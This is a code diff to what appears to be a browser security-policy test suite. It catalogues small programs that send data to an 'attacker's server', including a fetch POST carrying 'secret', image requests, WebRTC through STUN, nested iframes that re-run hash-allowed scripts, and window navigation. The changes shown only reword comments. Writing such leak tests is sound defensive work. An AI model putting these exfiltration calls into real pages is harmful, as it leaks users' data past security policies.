@@ -1,6 +1,6 @@
 import type { Programs } from './program.ts';
 
-/** Programs that call the attacker's server by script. */
+/** Programs that call the attacker's server from scripts. */
 export const CALLS: Programs = {
   'posts by fetch': ({ out }) => fetch(out, { method: 'POST', mode: 'no-cors', body: 'secret' }),
   'posts by XMLHttpRequest': ({ out }) => {
@@ -46,7 +46,7 @@ export const CALLS: Programs = {
     container.append(frame);
   },
   'talks WebRTC out of its own script again': ({ container, stun }) => {
-    // A policy that lets the frame's first script run by its hash lets it run in a nested document, too.
+    // A policy that allows the frame's first script by its hash also allows it in a nested document.
     const frame = document.createElement('iframe');
     const scripts = [...document.scripts].map((script) => script.outerHTML).join('');
     frame.srcdoc = scripts;
@@ -59,7 +59,7 @@ export const CALLS: Programs = {
   },
 };
 
-/** Programs that have an element call the attacker's server. */
+/** Programs that make an element call the attacker's server. */
 export const ELEMENTS: Programs = {
   'asks for an image': ({ out }) => {
     new Image().src = out;
@@ -164,7 +164,7 @@ export const ELEMENTS: Programs = {
   },
 };
 
-/** Programs that lead a document to the attacker's server. Each ends the page that it runs in, so each runs alone. */
+/** Programs that navigate a document to the attacker's server. Each ends its page, so each runs alone. */
 export const NAVIGATIONS: Programs = {
   'opens a window': ({ out }) => window.open(out),
   'opens a window by a link': ({ container, out }) => {
